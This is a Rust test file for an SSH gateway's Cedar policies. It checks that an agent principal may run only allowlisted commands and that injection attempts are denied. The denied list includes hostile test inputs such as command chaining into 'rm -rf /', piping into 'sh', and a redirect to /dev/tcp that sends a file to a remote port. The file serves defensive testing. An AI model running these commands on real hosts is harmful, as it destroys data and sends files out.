//! The parser against the repository's real policies: what an agent may run through
//! `Ssh::Action::"exec"` once its command is parsed, and that the context it builds
//! satisfies the Cedar schema (an ops member is allowed the same requests).

use std::collections::BTreeMap;
use std::path::Path;
use std::time::{Duration, SystemTime};

use gatehouse_identity::{Identity, PrincipalKind};
use gatehouse_policy::{AuthzRequest, Decision, Namespace, PolicyEngine, Resource, ResourceKind};
use gatehouse_ssh::parse;

fn engine() -> PolicyEngine {
    PolicyEngine::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies"))
        .expect("the repository policies load")
}

fn identity(kind: PrincipalKind, subject: &str, groups: &[&str]) -> Identity {
    Identity {
        issuer: "https://issuer.test".into(),
        subject: subject.into(),
        kind,
        email: None,
        name: None,
        groups: groups.iter().map(|g| (*g).to_owned()).collect(),
        owner: None,
        expires_at: SystemTime::now() + Duration::from_secs(600),
    }
}

fn host() -> Resource {
    Resource {
        kind: ResourceKind::Host,
        name: "web-1".into(),
        labels: BTreeMap::from([("env".to_owned(), "prod".to_owned())]),
    }
}

fn exec(engine: &PolicyEngine, who: &Identity, command: &str) -> Decision {
    let resource = host();
    engine.authorize(&AuthzRequest {
        principal: who,
        namespace: Namespace::Ssh,
        action: "exec",
        resource: &resource,
        context: parse(command).cedar_context(),
    })
}

#[test]
fn agents_run_allowlisted_commands_only() {
    let engine = engine();
    let agent = identity(PrincipalKind::Agent, "agent-7", &[]);
    for command in ["uptime", "df -h", "whoami", "cat /etc/os-release"] {
        let decision = exec(&engine, &agent, command);
        assert_eq!(
            decision,
            Decision::Allow {
                policies: vec!["agent-exec-allowlist".into()]
            },
            "{command:?}"
        );
    }
    for command in [
        "uptime; id",
        "uptime;rm -rf /",
        "/tmp/uptime",
        "df -h | sh",
        "\"df\" -h",
        "df -h #comment",
        "cat /etc/os-release > /dev/tcp/10.0.0.1/4444",
        "uptime\0",
        "rm -rf /",
    ] {
        let decision = exec(&engine, &agent, command);
        assert!(
            matches!(&decision, Decision::Deny { policies, .. } if policies.is_empty()),
            "{command:?}: {decision:?}"
        );
    }
}

#[test]
fn the_context_matches_the_schema() {
    // A malformed context is denied for everyone; ops may run anything, so an Allow
    // here proves the parser's context was valid for each of the refused commands.
    let engine = engine();
    let ops = identity(PrincipalKind::User, "alice", &["ops"]);
    for command in [
        "uptime; id",
        "/tmp/uptime",
        "df -h | sh",
        "echo $(id)",
        "",
        "echo héllo",
    ] {
        assert!(exec(&engine, &ops, command).is_allow(), "{command:?}");
    }
}
